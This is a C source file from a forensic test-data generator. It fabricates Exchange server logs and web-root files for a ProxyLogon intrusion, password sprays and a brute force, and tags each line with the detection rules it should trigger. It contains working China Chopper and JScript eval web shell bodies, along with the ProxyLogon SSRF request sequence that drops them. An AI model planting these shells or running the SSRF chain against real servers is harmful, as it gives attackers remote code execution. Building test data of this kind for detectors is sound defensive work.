/* gen_case_attack.c - the attack scenario of `spoor-gen case`: ProxyLogon
 * (CVE-2021-26855) SSRF, the OAB virtual directory web shell drop
 * (CVE-2021-27065 / CVE-2021-26858), web shell use and probing, a password
 * spray, a brute force and a forms-based OWA spray, plus the web root files.
 *
 * This file is the single place that decides which spoor rules each attack
 * line must trigger: every emitter call below carries its GEN_R_* mask, and
 * the writer turns it into truth.tsv rows at the line's final position.
 * Lines emitted without a mask (0) are deliberately benign look-alikes.
 *
 * Timeline (UTC):
 *   2021-03-03 06:59:10-06:59:26  203.0.113.66: SSRF chain, shell dropped
 *   2021-03-03 07:01              203.0.113.66 checks the shell
 *   2021-03-04 01:12 and 03:40    198.51.100.200: password spray (gz file)
 *   2021-03-04 14:54              104.140.114.110: second SSRF (gz file)
 *   2021-03-05 03:06-03:21        web shell use (after the IIS restart)
 *   2021-03-05 09:12              203.0.113.150: brute force of exadmin
 *   2021-03-06 02:15-02:17        198.51.100.61: forms-based OWA spray
 *   2021-03-06 10:36 and 17:27    localhost SSRF scan, shell-name probing
 * and the Application event log (EVTX, tools/evtxgen's writer) with the
 * Unified Messaging InvalidCastException of CVE-2021-26857 at 2021-03-03
 * 06:58:40 among benign MSExchange records. */
#include <openssl/evp.h>
#include <stdio.h>
#include <string.h>

#include "evtxsimple.h"
#include "gen_case.h"

#define ATK1 "203.0.113.66"
#define ATK2 "104.140.114.110"
#define SPRAY_IP "198.51.100.200"
#define BRUTE_IP "203.0.113.150"
#define FORMS_IP "198.51.100.61"
#define LOCALSCAN_IP "198.51.100.23"
#define PROBE_IP "198.51.100.9"
#define LOOKALIKE_IP "198.51.100.77"

#define UA_EWSCLIENT "ExchangeServicesClient/0.0.0.0"
#define UA_PYREQ "python-requests/2.25.1"
#define UA_ANTSWORD "antSword/v2.1"
#define UA_ZGRAB "Mozilla/5.0 zgrab/0.x"
#define UA_CHROME65                                                            \
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like " \
  "Gecko) Chrome/65.0.2345 Safari/537.36"
#define UA_CHROME87                                                            \
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like " \
  "Gecko) Chrome/87.0.4280.88 Safari/537.36"
#define UA_SPRAY_EAS "Apple-iPhone9C4/1803.88"
#define UA_BRUTE "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"

#define ALNUM "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
#define LOWER "abcdefghijklmnopqrstuvwxyz"
#define CANARY_SET ALNUM "-_"

/* Random names and values of one scenario, drawn once from the seed. */
typedef struct atk {
  char shell[16];     /* aspnet_client/system_web/<shell>.aspx */
  char chopper[12];   /* owa/auth/<chopper>.aspx */
  char pw_oab[12];    /* Request["..."] key of the OAB shell */
  char pw_chop[12];   /* Request.Item["..."] key of the one-liner */
  char pw_look[12];   /* key in the look-alike page */
  char canary[80];    /* msExchEcpCanary of the attacker's ECP session */
  char canary2[80];   /* canary of the second actor */
  char jsname[8];     /* second actor's /ecp/<js>.js */
  char vdir_guid[37]; /* OAB virtual directory object guid */
  char runspace[37];
} atk;

static int64_t T(int d, int h, int mi, int s, int ms) {
  return gen_time_utc(2021, 3, d, h, mi, s) * 1000 + ms;
}

/* cs-uri-query as the Exchange frontend logs it: the query (may be NULL)
 * followed by the CAFE correlation items. */
static const char *cafe(gen_case *c, const char *query) {
  char g[37];
  gen_rng_guid(&c->rng, g);
  return gen_case_fmt(c, "%s&CorrelationID=<empty>;&cafeReqId=%s;",
                      query ? query : "", g);
}

/* Frontend IIS line (site 1). */
static void fe(gen_case *c, int64_t t, const char *method, const char *stem,
               const char *query, const char *user, const char *cip,
               const char *ua, unsigned status, unsigned sub, unsigned w32,
               uint32_t rules, const char *note) {
  gen_iis_rec r = {.t_ms = t,
                   .method = method,
                   .stem = stem,
                   .query = query,
                   .user = user,
                   .cip = cip,
                   .ua = ua,
                   .status = status,
                   .substatus = sub,
                   .win32 = w32,
                   .taken = 15 + gen_rng_below(&c->rng, 400),
                   .sc_bytes = 300 + gen_rng_below(&c->rng, 4000),
                   .cs_bytes = 400 + gen_rng_below(&c->rng, 1500)};
  gen_case_iis(c, 1, &r, rules, note);
}

/* Backend IIS line (site 2) of an SSRF request: the frontend's machine
 * account authenticates to the backend. */
static void be(gen_case *c, int64_t t, const char *stem, const char *query,
               unsigned status, uint32_t rules, const char *note) {
  gen_iis_rec r = {.t_ms = t,
                   .method = "POST",
                   .stem = stem,
                   .query = cafe(c, query),
                   .user = GEN_MACHINE_ACCOUNT,
                   .cip = GEN_SERVER_IP,
                   .ua = UA_PYREQ,
                   .status = status,
                   .taken = 60 + gen_rng_below(&c->rng, 2000),
                   .host = GEN_SERVER_FQDN_LC};
  gen_case_iis(c, 2, &r, rules, note);
}

/* HttpProxy Ecp line of an SSRF request to /ecp/<js>. */
static void hp(gen_case *c, int64_t t, const char *ip, const char *ua,
               const char *stem, const char *anchor, const char *be_cookie,
               unsigned status, uint32_t rules, const char *note) {
  gen_hp_req q = {.t_ms = t,
                  .proto = "Ecp",
                  .stem = stem,
                  .method = "POST",
                  .anchor = anchor,
                  .ua = ua,
                  .cip = ip,
                  .status = status,
                  .be_status = status,
                  .target = GEN_SERVER_FQDN,
                  .routing_hint = "X-BEResource-Cookie",
                  .be_cookie = be_cookie,
                  .req_bytes = 300 + gen_rng_below(&c->rng, 900),
                  .resp_bytes = 200 + gen_rng_below(&c->rng, 3000),
                  .total_ms = 20 + gen_rng_below(&c->rng, 400)};
  gen_case_hp(c, &q, rules, note);
}

static void ecp(gen_case *c, int64_t t, unsigned ms, const char *cmd,
                const char *url, uint32_t rules, const char *note) {
  char sid[37], act[37], time[12];
  gen_rng_guid(&c->rng, sid);
  gen_rng_guid(&c->rng, act);
  snprintf(time, sizeof time, "%u", ms);
  gen_kv kv[] = {{"TIME", time},       {"SID", sid},   {"CMD", cmd},
                 {"REQID", ""},        {"URL", url},   {"REFERRER", ""},
                 {"EX", ""},           {"ACTID", act}, {"RS", "0"},
                 {"BLD", GEN_EX_BUILD}};
  gen_case_ecp(c, t, kv, sizeof kv / sizeof kv[0], rules, note);
}

/* ---- the SSRF chain of 2021-03-03 ------------------------------------------
 */

static void ssrf_chain(gen_case *c, const atk *a) {
  const char *srv = "ServerInfo~a]@" GEN_SERVER_FQDN ":444";
  const char *ssrf = "&a=%5D:444/ecp/y.js";
  const uint32_t JS = GEN_R_ECP_JS_POST;

  /* 1. Autodiscover lookup of the admin's LegacyDN: autodiscover-only. */
  hp(c, T(3, 6, 59, 10, 817), ATK1, UA_EWSCLIENT, "/ecp/y.js",
     gen_case_fmt(c, "%s/autodiscover/autodiscover.xml?#", srv), NULL, 200,
     GEN_R_AUTODISCOVER, "SSRF anchor to autodiscover.xml only");
  fe(c, T(3, 6, 59, 10, 900), "POST", "/ecp/y.js", cafe(c, NULL), NULL, ATK1,
     UA_EWSCLIENT, 200, 0, 0, JS, "anonymous POST to /ecp/y.js");

  /* 2. MAPI connect to get the admin SID. */
  hp(c, T(3, 6, 59, 11, 840), ATK1, UA_PYREQ, "/ecp/y.js",
     gen_case_fmt(c, "%s/mapi/emsmdb/?#", srv), NULL, 200, GEN_R_ANCHOR_MAILBOX,
     "SSRF anchor to /mapi/emsmdb");
  fe(c, T(3, 6, 59, 11, 920), "POST", "/ecp/y.js", cafe(c, NULL), NULL, ATK1,
     UA_PYREQ, 200, 0, 0, JS, "anonymous POST to /ecp/y.js");

  /* 3. proxyLogon.ecp: the 241 that hands out an ECP session. */
  hp(c, T(3, 6, 59, 13, 30), ATK1, UA_PYREQ, "/ecp/y.js",
     gen_case_fmt(c, "%s/ecp/proxyLogon.ecp?#", srv), NULL, 241,
     GEN_R_ANCHOR_MAILBOX | GEN_R_PROXYLOGON_ECP,
     "SSRF to proxyLogon.ecp, 241");
  fe(c, T(3, 6, 59, 13, 110), "POST", "/ecp/y.js", cafe(c, NULL), NULL, ATK1,
     UA_PYREQ, 241, 0, 0, JS | GEN_R_PROXYLOGON_ECP,
     "anonymous POST to /ecp/y.js answered 241");
  be(c, T(3, 6, 59, 13, 60), "/ecp/proxyLogon.ecp", NULL, 241,
     GEN_R_BACKEND_MACHINE | GEN_R_PROXYLOGON_ECP,
     "backend proxyLogon.ecp 241 as machine account");

  /* 4. Read the OAB virtual directory. */
  const char *q_oab = gen_case_fmt(
      c, "schema=OABVirtualDirectory&msExchEcpCanary=%s", a->canary);
  ecp(c, T(3, 6, 59, 14, 518), 60,
      "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null",
      gen_case_fmt(c, "/ecp/DDI/DDIService.svc/GetObject?%s%s", q_oab, ssrf),
      GEN_R_ECP_SSRF, "Get-OabVirtualDirectory via SSRF");
  hp(c, T(3, 6, 59, 14, 588), ATK1, UA_PYREQ, "/ecp/y.js",
     gen_case_fmt(c,
                  "%s/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=%s"
                  "&schema=OABVirtualDirectory#",
                  srv, a->canary),
     NULL, 200, GEN_R_ANCHOR_MAILBOX, "SSRF DDIService GetObject OAB vdir");
  fe(c, T(3, 6, 59, 14, 640), "POST", "/ecp/y.js", cafe(c, NULL), NULL, ATK1,
     UA_PYREQ, 200, 0, 0, JS, "anonymous POST to /ecp/y.js");
  be(c, T(3, 6, 59, 14, 600), "/ecp/DDI/DDIService.svc/GetObject", q_oab, 200,
     GEN_R_BACKEND_MACHINE | GEN_R_DDI_OAB_VDIR,
     "backend DDIService GetObject OAB vdir as machine account");

  /* 5. Write the script into ExternalUrl. */
  ecp(c, T(3, 6, 59, 17, 960), 4365,
      gen_case_fmt(
          c,
          "Set-OabVirtualDirectory.ExternalUrl='http://f/<script "
          "language=\"JScript\" runat=\"server\">function Page_Load()"
          "{eval(Request[\"%s\"],\"unsafe\");}</script>'.Identity='%s'",
          a->pw_oab, a->vdir_guid),
      gen_case_fmt(c, "/ecp/DDI/DDIService.svc/SetObject?%s%s", q_oab, ssrf),
      GEN_R_ECP_SET_SCRIPT, "Set-OabVirtualDirectory ExternalUrl script");
  hp(c, T(3, 6, 59, 18, 42), ATK1, UA_PYREQ, "/ecp/y.js",
     gen_case_fmt(c,
                  "%s/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s"
                  "&schema=OABVirtualDirectory#",
                  srv, a->canary),
     NULL, 200, GEN_R_ANCHOR_MAILBOX, "SSRF DDIService SetObject OAB vdir");
  fe(c, T(3, 6, 59, 18, 100), "POST", "/ecp/y.js", cafe(c, NULL), NULL, ATK1,
     UA_PYREQ, 200, 0, 0, JS, "anonymous POST to /ecp/y.js");
  be(c, T(3, 6, 59, 18, 80), "/ecp/DDI/DDIService.svc/SetObject", q_oab, 200,
     GEN_R_BACKEND_MACHINE | GEN_R_DDI_OAB_VDIR,
     "backend DDIService SetObject OAB vdir as machine account");

  /* 6. Reset the vdir: exports its settings to the attacker's path. */
  const char *q_reset = gen_case_fmt(
      c, "schema=ResetOABVirtualDirectory&msExchEcpCanary=%s", a->canary);
  ecp(c, T(3, 6, 59, 20, 212), 70,
      gen_case_fmt(c, "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='%s'",
                   a->vdir_guid),
      gen_case_fmt(c, "/ecp/DDI/DDIService.svc/SetObject?%s%s", q_reset, ssrf),
      GEN_R_ECP_SSRF, "ExternalUrl reset to $null via SSRF");
  hp(c, T(3, 6, 59, 20, 359), ATK1, UA_PYREQ, "/ecp/y.js",
     gen_case_fmt(c,
                  "%s/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s"
                  "&schema=ResetOABVirtualDirectory#",
                  srv, a->canary),
     NULL, 200, GEN_R_ANCHOR_MAILBOX | GEN_R_RESET_VDIR,
     "SSRF DDIService ResetOABVirtualDirectory");
  fe(c, T(3, 6, 59, 20, 420), "POST", "/ecp/y.js", cafe(c, NULL), NULL, ATK1,
     UA_PYREQ, 200, 0, 0, JS, "anonymous POST to /ecp/y.js");
  be(c, T(3, 6, 59, 20, 400), "/ecp/DDI/DDIService.svc/SetObject", q_reset, 200,
     GEN_R_BACKEND_MACHINE | GEN_R_DDI_OAB_VDIR,
     "backend DDIService ResetOABVirtualDirectory as machine account");

  /* 7. The export lands in the web root. */
  gen_case_oab(c, T(3, 6, 59, 21, 0),
               gen_case_fmt(c,
                            "Download failed and temporary file "
                            "'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\"
                            "%s.aspx' needs to be removed",
                            a->shell),
               GEN_R_OAB_TEMP_FILE, "OAB temporary file in aspnet_client");

  /* 8. Microsoft's second pattern: the target in the BackEndCookie. */
  hp(c, T(3, 6, 59, 25, 512), ATK1, UA_PYREQ, "/ecp/y.js", NULL,
     "Server~" GEN_SERVER_FQDN "/ecp/DDI/DDIService.svc~1942062522", 200,
     GEN_R_BACKEND_COOKIE, "SSRF target in BackEndCookie");
  fe(c, T(3, 6, 59, 25, 600), "POST", "/ecp/y.js", cafe(c, NULL), NULL, ATK1,
     UA_PYREQ, 200, 0, 0, JS, "anonymous POST to /ecp/y.js");

  /* 9. The attacker checks the dropped shell. */
  fe(c, T(3, 7, 1, 44, 0), "GET",
     gen_case_fmt(c, "/aspnet_client/system_web/%s.aspx", a->shell), "-", NULL,
     ATK1, UA_PYREQ, 200, 0, 0, GEN_R_FLAGGED_ACCESS,
     "dropped shell answers 200");
}

/* ---- later activity
 * ---------------------------------------------------------- */

static void second_actor(gen_case *c, const atk *a) {
  char stem[24];
  snprintf(stem, sizeof stem, "/ecp/%s.js", a->jsname);
  hp(c, T(4, 14, 54, 34, 255), ATK2, "Mozilla/5.0", stem,
     gen_case_fmt(c,
                  "ServerInfo~Admin@" GEN_SERVER ":444/ecp/DDI/DDIService.svc/"
                  "GetList?reqId=1615583487987&schema=VirtualDirectory"
                  "&msExchEcpCanary=%s&a=",
                  a->canary2),
     NULL, 200, GEN_R_ANCHOR_MAILBOX, "second actor SSRF anchor");
  fe(c, T(4, 14, 54, 34, 300), "POST", stem, cafe(c, NULL), NULL, ATK2,
     "Mozilla/5.0", 200, 0, 0, GEN_R_ECP_JS_POST,
     "anonymous POST to /ecp/*.js");
}

static void shell_use(gen_case *c, const atk *a) {
  const char *shell =
      gen_case_fmt(c, "/aspnet_client/system_web/%s.aspx", a->shell);
  const char *chop = gen_case_fmt(c, "/owa/auth/%s.aspx", a->chopper);
  fe(c, T(5, 3, 6, 27, 0), "GET", "/owa/auth/RedirSuiteServerProxy.aspx",
     cafe(c, NULL), NULL, LOOKALIKE_IP, UA_CHROME65, 200, 0, 0,
     GEN_R_FLAGGED_ACCESS, "look-alike RedirSuiteServerProxy.aspx 200");
  static const int at[][2] = {{7, 2}, {7, 15}, {8, 40}, {11, 2}};
  for (size_t i = 0; i < sizeof at / sizeof at[0]; i++)
    fe(c, T(5, 3, at[i][0], at[i][1], 0), "POST", shell, "-", NULL, ATK2,
       UA_ANTSWORD, 200, 0, 0, GEN_R_FLAGGED_ACCESS,
       "antSword POST to dropped shell");
  fe(c, T(5, 3, 20, 11, 0), "POST", chop, cafe(c, NULL), NULL, ATK2,
     UA_ANTSWORD, 200, 0, 0, GEN_R_FLAGGED_ACCESS,
     "antSword POST to China Chopper");
  fe(c, T(5, 3, 21, 30, 0), "POST", chop, cafe(c, NULL), NULL, ATK2,
     UA_ANTSWORD, 200, 0, 0, GEN_R_FLAGGED_ACCESS,
     "antSword POST to China Chopper");
  /* A shell that was removed before the collection: only the log shows it. */
  fe(c, T(5, 3, 25, 2, 0), "POST", "/aspnet_client/discover.aspx", "-", NULL,
     ATK2, UA_ANTSWORD, 200, 0, 0, GEN_R_WEBSHELL_ACCESS,
     "antSword POST to a shell no longer on disk");
}

static void scanners(gen_case *c) {
  gen_hp_req q = {.t_ms = T(6, 10, 36, 34, 479),
                  .proto = "Owa",
                  .stem = "/owa/auth/x.js",
                  .method = "GET",
                  .anchor = "ServerInfo~localhost/owa/auth/logon.aspx?",
                  .ua = UA_ZGRAB,
                  .cip = LOCALSCAN_IP,
                  .status = 500,
                  .be_status = 500,
                  .target = "localhost",
                  .routing_type = "CrossRegion",
                  .routing_hint = "X-AnonResource-Backend-Cookie",
                  .req_bytes = 180,
                  .resp_bytes = 1200,
                  .total_ms = 9};
  gen_case_hp(c, &q, GEN_R_LOCALHOST_SCAN, "SSRF scan to localhost");

  static const struct {
    const char *stem;
    unsigned status;
  } probes[] = {
      {"/owa/auth/Current/themes/errorFS.aspx", 302},
      {"/aspnet_client/system_web/supp0rt.aspx", 404},
      {"/owa/auth/shel.aspx", 404},
      {"/aspnet_client/discover.aspx", 404},
      {"/ecp/auth/errorEE.aspx", 404},
  };
  for (size_t i = 0; i < sizeof probes / sizeof probes[0]; i++) {
    int aspnet = strncmp(probes[i].stem, "/aspnet_client/", 15) == 0;
    fe(c, T(6, 17, 27, 44 + (int)i, 0), "GET", probes[i].stem,
       aspnet ? "-" : cafe(c, NULL), NULL, PROBE_IP,
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
       "(KHTML, like Gecko) Chrome/88.0.4324.182 Safari/537.36",
       probes[i].status, 0, probes[i].status == 404 ? 2 : 0,
       GEN_R_WEBSHELL_PROBE, "probe for a known shell name");
  }
  /* The same scanner also loads the stock logon page: benign. */
  fe(c, T(6, 17, 27, 50, 0), "GET", "/owa/auth/logon.aspx",
     cafe(c, "url=https%3a%2f%2fmail.corp.example%2fowa%2f&reason=0"), NULL,
     PROBE_IP, UA_CHROME87, 200, 0, 0, 0, NULL);
}

/* ---- authentication attacks
 * -------------------------------------------------- */

static void spray(gen_case *c) {
  static const char *const extra[] = {"administrator", "admin",    "test",
                                      "backup",        "helpdesk", "scanner"};
  const size_t nreal = 24;
  const char *users[30];
  size_t nu = gen_case_nusers();
  /* 24 real mailboxes (distinct, spread over the list) and 6 guesses. */
  for (size_t i = 0; i < nreal; i++)
    users[i] = gen_case_user_sam((i * 2 + 1) % nu);
  for (size_t i = 0; i < 6; i++)
    users[nreal + i] = extra[i];
  size_t winner = gen_rng_below(&c->rng, (uint32_t)nreal);

  int64_t t = T(4, 1, 12, 3, 0);
  for (size_t i = 0; i < 30; i++) {
    fe(c, t, "POST", "/EWS/Exchange.asmx", cafe(c, NULL),
       gen_case_fmt(c, "%s@" GEN_DOMAIN, users[i]), SPRAY_IP, UA_CHROME87, 401,
       1, 1326, GEN_R_PASSWORD_SPRAY, "password spray, EWS 401");
    t += 1500 + gen_rng_below(&c->rng, 2500);
  }
  /* Second round over ActiveSync; the winner's password works. */
  t = T(4, 3, 40, 10, 0);
  size_t round2[12];
  for (size_t i = 0; i < 11; i++)
    round2[i] = (winner + 1 + i * 2) % nreal;
  round2[11] = winner;
  for (size_t i = 0; i < 12; i++) {
    const char *u = users[round2[i]];
    const char *q =
        gen_case_fmt(c,
                     "Cmd=FolderSync&User=%s%%40corp.example&DeviceId=SPRAY%04u"
                     "&DeviceType=iPhone",
                     u, (unsigned)i);
    const char *upn = gen_case_fmt(c, "%s@" GEN_DOMAIN, u);
    if (i < 11)
      fe(c, t, "POST", "/Microsoft-Server-ActiveSync/default.eas", cafe(c, q),
         upn, SPRAY_IP, UA_SPRAY_EAS, 401, 1, 1326, GEN_R_PASSWORD_SPRAY,
         "password spray, ActiveSync 401");
    else
      fe(c, t, "POST", "/Microsoft-Server-ActiveSync/default.eas", cafe(c, q),
         upn, SPRAY_IP, UA_SPRAY_EAS, 200, 0, 0, GEN_R_SUCCESS_AFTER_FAIL,
         gen_case_fmt(c, "spray success for %s", upn));
    t += 2000 + gen_rng_below(&c->rng, 3000);
  }
}

static void brute_force(gen_case *c) {
  int64_t t = T(5, 9, 12, 0, 0);
  for (int i = 0; i < 25; i++) {
    fe(c, t, "POST", "/EWS/Exchange.asmx", cafe(c, NULL), "exadmin@" GEN_DOMAIN,
       BRUTE_IP, UA_BRUTE, 401, 1, 1326, GEN_R_BRUTE_FORCE,
       "brute force of exadmin, 401");
    t += 4000 + gen_rng_below(&c->rng, 8000);
  }
}

/* Forms-based spraying of OWA: IIS logs no account name and no 401, only
 * POSTs to auth.owa answered 302 and the redirects back to logon.aspx with
 * reason=2 (the failure, evidence of the spray). The last guess works: the
 * browser lands on /owa/ as the user. Runs last, so the random draws of
 * the rest of the scenario stay as they were. */
static void forms_spray(gen_case *c) {
  int64_t t = T(6, 2, 15, 0, 0);
  for (int i = 0; i < 25; i++) {
    fe(c, t, "POST", "/owa/auth.owa", cafe(c, NULL), NULL, FORMS_IP,
       UA_CHROME87, 302, 0, 0, 0, NULL);
    fe(c, t + 180, "GET", "/owa/auth/logon.aspx",
       cafe(c, "url=https%3a%2f%2fmail.corp.example%2fowa%2f&reason=2"), NULL,
       FORMS_IP, UA_CHROME87, 200, 0, 0, GEN_R_FORMS_SPRAY,
       "forms-based spray, logon.aspx reason=2");
    t += 3000 + gen_rng_below(&c->rng, 2000);
  }
  const char *upn = gen_case_fmt(c, "%s@" GEN_DOMAIN, gen_case_user_sam(5));
  fe(c, t, "POST", "/owa/auth.owa", cafe(c, NULL), NULL, FORMS_IP, UA_CHROME87,
     302, 0, 0, 0, NULL);
  fe(c, t + 200, "GET", "/owa/", cafe(c, NULL), upn, FORMS_IP, UA_CHROME87, 200,
     0, 0, GEN_R_FORMS_SUCCESS,
     gen_case_fmt(c, "forms spray success for %s", upn));
}

/* ---- web root
 * ------------------------------------------------------------------ */

/* Get-OabVirtualDirectory | Format-List output, as the reset writes it. */
static const char *oab_export(gen_case *c, const atk *a, const char *ext_url) {
  static const char *const kv[][2] = {
      {"PollInterval", "480"},
      {"OfflineAddressBooks", ""},
      {"RequireSSL", "False"},
      {"BasicAuthentication", "False"},
      {"WindowsAuthentication", "True"},
      {"OAuthAuthentication", "True"},
      {"MetabasePath", "IIS://" GEN_SERVER_FQDN "/W3SVC/1/ROOT/OAB"},
      {"Path", GEN_EX_INSTALL "FrontEnd\\HttpProxy\\OAB"},
      {"ExtendedProtectionTokenChecking", "None"},
      {"ExtendedProtectionFlags", ""},
      {"ExtendedProtectionSPNList", ""},
      {"AdminDisplayVersion", "Version 15.1 (Build 2176.2)"},
      {"Server", GEN_SERVER},
      {"InternalUrl", "https://" GEN_SERVER_FQDN_LC "/OAB"},
      {"InternalAuthenticationMethods", "WindowsIntegrated"},
      {NULL, NULL}, /* ExternalUrl */
      {"ExternalAuthenticationMethods", "WindowsIntegrated"},
      {"AdminDisplayName", ""},
      {"ExchangeVersion", "0.10 (14.0.100.0)"},
      {"Name", "OAB (Default Web Site)"},
      {"DistinguishedName",
       "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=" GEN_SERVER
       ",CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),"
       "CN=Administrative Groups,CN=Corp,CN=Microsoft Exchange,CN=Services,"
       "CN=Configuration,DC=corp,DC=example"},
      {"Identity", GEN_SERVER "\\OAB (Default Web Site)"},
  };
  char buf[GEN_LINE_MAX];
  size_t n = 0;
  int w = snprintf(buf, sizeof buf, "\r\n\r\n%-37s: %s\r\n", "RunspaceId",
                   a->runspace);
  n = (size_t)w;
  for (size_t i = 0; i < sizeof kv / sizeof kv[0] && n < sizeof buf; i++) {
    const char *k = kv[i][0] ? kv[i][0] : "ExternalUrl";
    const char *v = kv[i][0] ? kv[i][1] : ext_url;
    w = snprintf(buf + n, sizeof buf - n, "%-37s: %s\r\n", k, v);
    if (w < 0)
      break;
    n += (size_t)w;
  }
  if (n < sizeof buf) {
    w = snprintf(
        buf + n, sizeof buf - n,
        "%-37s: %s\r\n%-37s: %s\r\n%-37s: %s\r\n%-37s: %s\r\n"
        "%-37s: %s\r\n%-37s: \r\n%-37s: %s\r\n%-37s: %s\r\n\r\n\r\n",
        "Guid", a->vdir_guid, "ObjectCategory",
        "corp.example/Configuration/Schema/ms-Exch-OAB-Virtual-Directory",
        "ObjectClass",
        "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}",
        "WhenChanged", "3/3/2021 6:59:18 AM", "WhenCreated",
        "11/14/2020 3:12:40 PM", "OrganizationId", "OriginatingServer",
        "DC01." GEN_DOMAIN, "IsValid", "True");
    if (w > 0)
      n += (size_t)w;
  }
  if (n >= sizeof buf) {
    fprintf(stderr, "spoor-gen: OAB export too long\n");
    c->err = 1;
    return "";
  }
  return gen_case_str(c, buf);
}

/* Upper-case hex SHA-256 of s into out (65 bytes). */
static void sha256_hex(const char *s, char *out) {
  unsigned char md[EVP_MAX_MD_SIZE];
  unsigned int n = 0;
  if (!EVP_Digest(s, strlen(s), md, &n, EVP_sha256(), NULL) || n != 32) {
    out[0] = 0;
    return;
  }
  for (unsigned i = 0; i < 32; i++)
    snprintf(out + 2 * i, 3, "%02X", md[i]);
}

/* A known-good baseline in Microsoft's per-build CSV layout
   (SHA256,build,relative path) for the stock pages of the case: spoor's
   --baseline reads it (make demo, golden.generated_case). */
static void baseline(gen_case *c, const char *logon, const char *error_fe) {
  char h1[65], h2[65], h3[65];
  sha256_hex(logon, h1);
  sha256_hex(error_fe, h2);
  sha256_hex("stock RedirSuiteServiceProxy.aspx (not in this case)", h3);
  if (!h1[0] || !h2[0] || !h3[0]) {
    fprintf(stderr, "spoor-gen: SHA-256 failed\n");
    c->err = 1;
    return;
  }
  gen_case_webfile(
      c, "baseline/baseline_15.1.2176.2_serverside.csv",
      gen_case_fmt(
          c,
          "%s,15.1.2176.2,\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx\r\n"
          "%s,15.1.2176.2,\\FrontEnd\\HttpProxy\\owa\\auth\\errorFE.aspx\r\n"
          "%s,15.1.2176.2,\\FrontEnd\\HttpProxy\\owa\\auth\\"
          "RedirSuiteServiceProxy.aspx\r\n",
          h1, h2, h3),
      0, NULL);
}

static void webroot(gen_case *c, const atk *a) {
  const char *auth = "exchange/FrontEnd/HttpProxy/owa/auth/";
  const char *sysweb = "inetpub/wwwroot/aspnet_client/system_web/";

  /* Modification times as the story has them: the OAB export at the
     Reset*VirtualDirectory write (06:59:21), the one-liner and the
     look-alike after the second actor's SSRF, before their use. */
  gen_case_webfile_at(
      c, gen_case_fmt(c, "%s%s.aspx", sysweb, a->shell),
      oab_export(c, a,
                 gen_case_fmt(c,
                              "http://f/<script language=\"JScript\" "
                              "runat=\"server\">function Page_Load(){eval("
                              "Request[\"%s\"],\"unsafe\");}</script>",
                              a->pw_oab)),
      GEN_R_YARA_OAB_EXPORT | GEN_R_YARA_CHOPPER_BLOCK | GEN_R_UNKNOWN_PAGE,
      "OAB vdir export holding a JScript eval shell",
      gen_time_utc(2021, 3, 3, 6, 59, 21));
  gen_case_webfile_at(
      c, gen_case_fmt(c, "%s%s.aspx", auth, a->chopper),
      gen_case_fmt(
          c,
          "<%%@ Page Language=\"Jscript\"%%><%%eval(Request.Item[\"%s\"],"
          "\"unsafe\");%%>",
          a->pw_chop),
      GEN_R_YARA_CHOPPER_ONELINER | GEN_R_UNKNOWN_PAGE,
      "China Chopper one-liner", gen_time_utc(2021, 3, 4, 14, 55, 2));
  gen_case_webfile_at(
      c, gen_case_fmt(c, "%sRedirSuiteServerProxy.aspx", auth),
      gen_case_fmt(c,
                   "<%%@ Page Language=\"JScript\" Debug=\"false\" %%>\r\n"
                   "<html><head><title>Outlook</title></head><body>\r\n"
                   "<script language=\"JScript\" runat=\"server\">function "
                   "Page_Load(){eval(Request[\"%s\"],\"unsafe\");}</script>\r\n"
                   "</body></html>\r\n",
                   a->pw_look),
      GEN_R_STOCK_LOOKALIKE | GEN_R_YARA_CHOPPER_BLOCK,
      "look-alike of RedirSuiteServiceProxy.aspx with an eval shell",
      gen_time_utc(2021, 3, 4, 14, 56, 40));

  /* Benign pages. */
  static const char logon_aspx[] =
      "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n"
      "<html><head><title>Outlook</title></head><body>\r\n"
      "<form method=\"post\" action=\"/owa/auth.owa\">"
      "<input type=\"text\" name=\"username\"/>"
      "<input type=\"password\" name=\"password\"/>"
      "<input type=\"submit\" value=\"sign in\"/></form>\r\n"
      "</body></html>\r\n";
  gen_case_webfile(c, gen_case_fmt(c, "%slogon.aspx", auth), logon_aspx, 0,
                   NULL);
  /* errorFE.aspx: the baseline knows the stock page; the one on disk was
     edited (one added line), so its hash is in no baseline. */
  static const char error_fe[] =
      "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n"
      "<html><head><title>Error</title></head><body>\r\n"
      "<p>Something went wrong. Please try again later.</p>\r\n"
      "</body></html>\r\n";
  gen_case_webfile_at(c, gen_case_fmt(c, "%serrorFE.aspx", auth),
                      gen_case_fmt(c,
                                   "%s<%% Response.AppendHeader(\"X-Id\", "
                                   "\"%s\"); %%>\r\n",
                                   error_fe, a->shell),
                      GEN_R_MODIFIED_STOCK, "stock errorFE.aspx, edited",
                      gen_time_utc(2021, 3, 4, 14, 57, 5));
  baseline(c, logon_aspx, error_fe);
  /* A benign OAB export, but a page of no stock name in aspnet_client:
     spoor.file.unknown_page (medium). */
  gen_case_webfile(c, gen_case_fmt(c, "%sOabVdirExport.aspx", sysweb),
                   oab_export(c, a, "https://" GEN_MAIL_HOST "/OAB"),
                   GEN_R_UNKNOWN_PAGE,
                   "page of no stock name in aspnet_client");
  gen_case_webfile(c, "inetpub/wwwroot/iisstart.htm",
                   "<!DOCTYPE html>\r\n<html><head><title>IIS Windows Server"
                   "</title></head><body><img src=\"iisstart.png\" alt=\"IIS\">"
                   "</body></html>\r\n",
                   0, NULL);
}

/* Application.evtx: benign Exchange records and, as record 4, the Unified
 * Messaging worker's unhandled InvalidCastException (level 2, Error) that
